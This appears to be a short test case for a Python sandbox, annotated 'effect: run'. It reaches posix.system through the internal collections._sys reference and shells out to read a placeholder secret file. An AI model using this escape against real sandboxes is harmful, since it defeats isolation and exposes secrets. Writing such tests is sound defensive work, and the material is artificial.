# collections keeps sys as _sys.
# effect: run
import collections
collections._sys.modules["posix"].system("cat @SECRET@")
